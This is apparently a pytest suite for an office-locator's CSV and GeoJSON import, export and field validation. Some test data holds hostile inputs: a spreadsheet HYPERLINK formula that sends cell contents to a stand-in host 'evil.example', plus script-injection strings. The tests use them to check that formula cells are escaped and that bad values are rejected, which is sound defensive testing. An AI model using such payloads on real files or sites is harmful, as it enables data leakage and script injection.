"""Office files: reading CSV and GeoJSON the way coordinators actually make them, checking
each field, and writing files that read back unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest

from locator.offices.csvio import COLUMNS, read_csv, write_csv
from locator.offices.geojson import read_geojson, write_geojson
from locator.offices.sources import FileProblem
from locator.offices.validation import check_rows, validate_office
from tests.office_samples import FORMULAS, TRICKY, office

HEADER = ",".join(COLUMNS)


def rows_of(data: bytes):
    source = read_csv(data)
    return source, list(check_rows(source.rows, unit=source.unit))


def one_row(data: bytes):
    _, rows = rows_of(data)
    assert len(rows) == 1
    return rows[0]


def csv_bytes(*lines: str, newline: str = "\n", encoding: str = "utf-8") -> bytes:
    return newline.join(lines).encode(encoding) + newline.encode(encoding)


def problem_of(data: bytes, reader=read_csv) -> FileProblem:
    with pytest.raises(FileProblem) as caught:
        reader(data)
    return caught.value


# --- reading CSV ------------------------------------------------------------------------


def test_csv_from_excel_with_bom_and_windows_line_endings_reads_like_any_other():
    text = csv_bytes(
        HEADER,
        "kyiv-podil,Офіс,,вул. Хрещатик 1,Київ,,,UA,50.45,30.52,,,,,uk,,,,,,",
        newline="\r\n",
    )
    row = one_row(b"\xef\xbb\xbf" + text)
    assert row.errors == []
    assert row.position == 2
    assert row.clean["slug"] == "kyiv-podil"
    assert row.clean["demo"] is False


def test_semicolon_separated_csv_with_decimal_commas_is_accepted_with_a_notice():
    data = csv_bytes(
        "slug;name;city;country;lat;lon;languages", "lviv;Офіс;Львів;ua;49,8397;24,0297;uk,en"
    )
    source, rows = rows_of(data)
    assert [str(n) for n in source.notices] == ["Columns are separated by “;”, not commas."]
    assert rows[0].errors == []
    assert rows[0].clean["country"] == "UA"
    assert (rows[0].clean["lat"], rows[0].clean["lon"]) == (49.8397, 24.0297)
    assert rows[0].clean["languages"] == ["uk", "en"]


def test_tab_separated_csv_is_accepted():
    source, rows = rows_of(csv_bytes("slug\tname\tcity\tcountry", "lviv\tОфіс, центр\tЛьвів\tUA"))
    assert rows[0].clean["name"] == "Офіс, центр"
    assert str(source.notices[0]) == "Columns are separated by “Tab”, not commas."


def test_an_unusual_delimiter_is_named_in_the_error():
    problem = problem_of(csv_bytes("slug|name|city|country", "lviv|Офіс|Львів|UA"))
    assert problem.line == 1
    assert "“|”" in str(problem)


def test_a_cp1251_file_is_refused_naming_the_line_and_the_encoding():
    data = csv_bytes(
        "slug,name,city,country",
        "lviv,Lviv office,Lviv,UA",
        "kyiv,Київський офіс,Київ,UA",
        encoding="cp1251",
    )
    problem = problem_of(data)
    assert problem.line == 3
    assert "not UTF-8" in str(problem)
    assert "cp1251" in str(problem)


def test_a_utf16_file_is_refused():
    problem = problem_of("slug,name,city,country\r\n".encode("utf-16"))
    assert "UTF-16" in str(problem)


def test_a_file_without_header_says_the_header_is_missing():
    problem = problem_of(csv_bytes("kyiv-podil,Офіс на Подолі,Київ,UA,50.45,30.52"))
    assert problem.line == 1
    assert "header" in str(problem)
    assert "kyiv-podil,Офіс" in str(problem)


def test_unknown_columns_are_listed():
    problem = problem_of(csv_bytes("slug,name,city,country,telephone,notes", "a,b,c,UA,1,2"))
    assert problem.line == 1
    assert "Unknown columns: telephone, notes." in str(problem)


def test_missing_required_columns_are_listed():
    problem = problem_of(csv_bytes("slug,name,phone", "a,b,+380445550123"))
    assert "Required columns are missing: city, country." in str(problem)


def test_empty_file_is_refused():
    assert "empty" in str(problem_of(b"\xef\xbb\xbf\r\n"))


def test_broken_quoting_names_the_line_where_the_value_starts():
    data = csv_bytes(
        "slug,name,city,country",
        "lviv,Офіс,Львів,UA",
        'kyiv,"Офіс без кінця,Київ,UA',
        "odesa,Офіс,Одеса,UA",
    )
    problem = problem_of(data)
    assert problem.line == 3
    assert "quote" in str(problem)


def test_a_quote_inside_an_unquoted_value_after_closing_is_broken_quoting():
    problem = problem_of(csv_bytes("slug,name,city,country", 'kyiv,"Офіс" Поділ,Київ,UA'))
    assert problem.line == 2


def test_a_row_with_a_stray_comma_fails_alone():
    data = csv_bytes("slug,name,city,country", "kyiv,Офіс, Поділ,Київ,UA", "lviv,Офіс,Львів,UA")
    _, rows = rows_of(data)
    assert "5 values but the header has 4 columns" in str(rows[0].errors[0])
    assert rows[1].errors == []


def test_blank_lines_are_skipped_and_line_numbers_stay_true():
    data = csv_bytes("slug,name,city,country", "", "lviv,Офіс,Львів,UA", ",,,", "kyiv,,Київ,UA")
    _, rows = rows_of(data)
    assert [r.position for r in rows] == [3, 5]
    assert [(e.field, str(e)) for e in rows[1].errors] == [("name", "This field is required.")]


def test_duplicate_slug_is_an_error_on_the_later_line():
    data = csv_bytes(
        "slug,name,city,country", "kyiv,Офіс 1,Київ,UA", "lviv,Офіс,Львів,UA", "kyiv,Офіс 2,Київ,UA"
    )
    _, rows = rows_of(data)
    assert rows[0].errors == [] and rows[1].errors == []
    assert [str(e) for e in rows[2].errors] == ["The slug “kyiv” already appears on line 2."]


def test_computed_columns_are_ignored_on_import():
    data = csv_bytes(
        "slug,name,city,country,open_now,url", "kyiv,Офіс,Київ,UA,true,http://x/offices/kyiv"
    )
    source, rows = rows_of(data)
    assert "open_now" not in rows[0].clean and "url" not in rows[0].clean
    assert source.columns == ("slug", "name", "city", "country")


def test_multiline_description_keeps_its_lines_with_unix_endings():
    data = csv_bytes(
        "slug,name,city,country,description",
        'kyiv,Офіс,Київ,UA,"Рядок 1\r\nРядок 2"',
        newline="\r\n",
    )
    assert one_row(data).clean["description"] == "Рядок 1\nРядок 2"


# --- checking fields --------------------------------------------------------------------


def errors_of(**changes) -> dict[str, str]:
    raw = office(**changes)
    _, errors = validate_office(raw)
    return {e.field: str(e) for e in errors}


def test_a_complete_office_is_valid_and_comes_back_unchanged():
    clean, errors = validate_office(office())
    assert errors == []
    assert clean == office()


def test_html_in_a_name_is_kept_as_text():
    clean, errors = validate_office(office(name="<script>alert(1)</script> Офіс"))
    assert errors == []
    assert clean["name"] == "<script>alert(1)</script> Офіс"


@pytest.mark.parametrize(
    "phone", ["044 555 01 23", "(044) 555-01-23", "+380445550123", "0 800 213 103"]
)
def test_local_phone_formats_of_the_country_are_accepted_as_typed(phone):
    clean, errors = validate_office(office(phone=phone))
    assert errors == []
    assert clean["phone"] == phone


@pytest.mark.parametrize(
    ("changes", "field", "text"),
    [
        ({"phone": "12345"}, "phone", "not a valid phone number for the country UA"),
        ({"phone": "call us"}, "phone", "not a phone number"),
        ({"email": "podil@"}, "email", "not a valid e-mail address"),
        ({"website": "ftp://example.org"}, "website", "http:// or https://"),
        ({"website": "javascript:alert(1)"}, "website", "http:// or https://"),
        ({"website": "example.org"}, "website", "http:// or https://"),
        ({"opening_hours": "Mo-Fr 9-18 o'clock"}, "opening_hours", "not in OpenStreetMap format"),
        ({"opening_hours": "Пн-Пт 09:00-18:00"}, "opening_hours", "not in OpenStreetMap format"),
        ({"lat": 91.0}, "lat", "between -90 and 90"),
        ({"lon": -181}, "lon", "between -180 and 180"),
        ({"lat": "north"}, "lat", "must be a number"),
        ({"lat": float("nan")}, "lat", "must be a number"),
        ({"lon": None}, "lon", "both latitude and longitude"),
        ({"country": "XX"}, "country", "Unknown country code “XX”"),
        ({"country": "Ukraine"}, "country", "too long"),
        ({"languages": ["uk", "ukrainian"]}, "languages", "Unknown language codes: ukrainian"),
        ({"categories": ["family", "taxes"]}, "categories", "Unknown codes: taxes"),
        ({"accessibility": ["lift"]}, "accessibility", "Unknown codes: lift"),
        ({"name": "x" * 201}, "name", "at most 200 characters"),
        ({"name": "Офіс\nПоділ"}, "name", "on one line"),
        ({"name": "   "}, "name", "required"),
        ({"name": "Офіс\x00"}, "name", "control characters"),
        ({"slug": "Kyiv Podil"}, "slug", "small Latin letters"),
        ({"slug": "київ"}, "slug", "small Latin letters"),
        ({"demo": "maybe"}, "demo", "true or false"),
        ({"name": ["a list"]}, "name", "must be text"),
        ({"languages": 5}, "languages", "list of codes"),
    ],
)
def test_each_bad_value_is_reported_on_its_field(changes, field, text):
    errors = errors_of(**changes)
    assert list(errors) == [field]
    assert text in errors[field]


def test_a_phone_without_a_known_country_must_be_international():
    _, errors = validate_office(
        {"slug": "x", "name": "X", "city": "Y", "country": "XX", "phone": "044 555 01 23"}
    )
    assert {e.field for e in errors} == {"country", "phone"}
    assert "country code (+380" in next(str(e) for e in errors if e.field == "phone")


def test_missing_required_keys_are_reported_unless_partial():
    _, errors = validate_office({"slug": "x"})
    assert sorted(e.field for e in errors) == ["city", "country", "name"]
    clean, errors = validate_office({"slug": "x", "phone": "+380445550123"}, partial=True)
    assert errors == [] and clean == {"slug": "x", "phone": "+380445550123"}


def test_lists_accept_semicolons_commas_any_case_and_drop_repeats():
    clean, errors = validate_office(office(languages="UK; en,uk", categories=" Family ;housing;"))
    assert errors == []
    assert clean["languages"] == ["uk", "en"]
    assert clean["categories"] == ["family", "housing"]


def test_boolean_words():
    for word, value in [
        ("true", True),
        ("1", True),
        ("так", True),
        ("", False),
        ("false", False),
        ("0", False),
    ]:
        assert validate_office(office(demo=word))[0]["demo"] is value


def test_messages_render_through_the_callers_translation():
    _, errors = validate_office(office(lat=100))
    catalogue = {"Latitude must be between -90 and 90.": "Широта має бути від -90 до 90."}
    assert errors[0].render(catalogue.get) == "Широта має бути від -90 до 90."


# --- GeoJSON ----------------------------------------------------------------------------


def geojson(*features) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


def test_geojson_point_features_become_offices_and_null_geometry_means_geocode():
    data = geojson(
        {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [30.52, 50.45]},
            "properties": office(),
        },
        {
            "type": "Feature",
            "geometry": None,
            "properties": {"slug": "b", "name": "B", "city": "Київ", "country": "UA"},
        },
    )
    source = read_geojson(data)
    rows = list(check_rows(source.rows, unit=source.unit))
    assert [r.errors for r in rows] == [[], []]
    assert (rows[0].clean["lat"], rows[0].clean["lon"]) == (50.45, 30.52)
    assert (rows[1].clean["lat"], rows[1].clean["lon"]) == (None, None)


def test_geojson_problems_name_the_feature():
    data = geojson(
        {
            "type": "Feature",
            "geometry": {"type": "LineString", "coordinates": [[1, 2], [3, 4]]},
            "properties": office(),
        },
        {"type": "Feature", "geometry": None, "properties": {**office(slug="b"), "colour": "red"}},
        "not a feature",
    )
    source = read_geojson(data)
    rows = list(check_rows(source.rows, unit=source.unit))
    assert "must be a Point" in str(rows[0].errors[0])
    assert rows[1].errors == []
    assert [str(n) for n in source.notices] == ["Ignored unknown properties: colour."]
    assert rows[2].position == 3 and "not a GeoJSON Feature" in str(rows[2].errors[0])


def test_invalid_json_names_the_line():
    problem = problem_of(
        b'{"type": "FeatureCollection",\n "features": [\n  {"type": "Feature",,}]}', read_geojson
    )
    assert problem.line == 3
    assert "not valid JSON" in str(problem)


def test_other_json_is_not_a_feature_collection():
    assert "FeatureCollection" in str(problem_of(b'{"type": "Feature"}', read_geojson))


def test_duplicate_slugs_in_geojson_name_the_first_feature():
    props = office()
    source = read_geojson(
        geojson(*[{"type": "Feature", "geometry": None, "properties": props}] * 2)
    )
    rows = list(check_rows(source.rows, unit=source.unit))
    assert str(rows[1].errors[0]) == "The slug “kyiv-podil” already appears in feature 1."


# --- round trips ------------------------------------------------------------------------


def test_csv_export_import_export_is_identical_with_tricky_values():
    first = io.StringIO()
    write_csv(TRICKY, first)
    _, rows = rows_of(first.getvalue().encode())
    assert [r.errors for r in rows] == [[]] * len(TRICKY)
    assert [r.clean for r in rows] == TRICKY
    second = io.StringIO()
    write_csv([r.clean for r in rows], second)
    assert second.getvalue() == first.getvalue()


def test_csv_export_has_the_spec_columns_in_order_and_lists_joined_by_semicolons():
    out = io.StringIO()
    write_csv([office()], out)
    header, line = out.getvalue().splitlines()[:2]
    assert header == HEADER
    assert ",uk;en,family;housing,wheelchair," in line


def test_geojson_export_import_export_is_identical_with_tricky_values():
    first = io.StringIO()
    write_geojson(TRICKY, first)
    document = json.loads(first.getvalue())
    assert document["features"][0]["geometry"] == {
        "type": "Point",
        "coordinates": [30.52071, 50.46234],
    }
    assert document["features"][2]["geometry"] is None
    source = read_geojson(first.getvalue().encode())
    rows = list(check_rows(source.rows, unit=source.unit))
    assert [r.errors for r in rows] == [[]] * len(TRICKY)
    assert [r.clean for r in rows] == TRICKY
    second = io.StringIO()
    write_geojson([r.clean for r in rows], second)
    assert second.getvalue() == first.getvalue()


def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe():
    out = io.StringIO()
    write_csv(FORMULAS, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    formulas, apostrophes = rows
    assert formulas["name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    assert formulas["organization"].startswith("'@SUM(")
    assert formulas["address"] == "'-2+3, вул. Мінусова"
    assert formulas["phone"] == "'+380 44 555 01 23"
    assert formulas["description"] == "'- перший пункт\n- другий пункт"
    # Coordinates are numbers a spreadsheet must read as numbers.
    assert (formulas["lat"], formulas["lon"]) == ("-33.9", "-70.6")
    # Text that really starts with an apostrophe gets one more, so it reads back whole.
    assert formulas["postcode"] == "''8320000"
    assert apostrophes["name"] == "''=already quoted'"
    assert (apostrophes["address"], apostrophes["region"]) == ("'''", "''")
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for cell in row.values()
        if cell not in (row["lat"], row["lon"])
    )


def test_csv_with_formula_text_reads_back_and_writes_again_identically():
    first = io.StringIO()
    write_csv(FORMULAS, first)
    _, rows = rows_of(first.getvalue().encode())
    assert [r.errors for r in rows] == [[], []]
    assert [r.clean for r in rows] == FORMULAS
    second = io.StringIO()
    write_csv([r.clean for r in rows], second)
    assert second.getvalue() == first.getvalue()


def test_a_hand_written_apostrophe_stays_unless_it_marks_a_formula():
    def name_of(cell: str) -> str:
        return one_row(csv_bytes(HEADER, f"a,{cell},,,Київ,,,UA,,,,,,,,,,,")).clean["name"]

    assert name_of("'Слово") == "'Слово"
    assert name_of("'") == "'"
    assert name_of("'+380") == "+380"  # what a spreadsheet shows for this cell
    assert name_of("''Слово") == "'Слово"


def test_active_column_round_trips_when_asked_for():
    out = io.StringIO()
    write_csv([{**office(), "active": False}], out, with_active=True)
    row = one_row(out.getvalue().encode())
    assert row.clean["active"] is False


def test_a_key_that_is_no_office_field_is_reported_by_name():
    clean, errors = validate_office({**office(), "fax": "+380 44 555 01 24"})
    assert [(e.field, str(e)) for e in errors] == [("fax", "Unknown field “fax”.")]
    assert "fax" not in clean
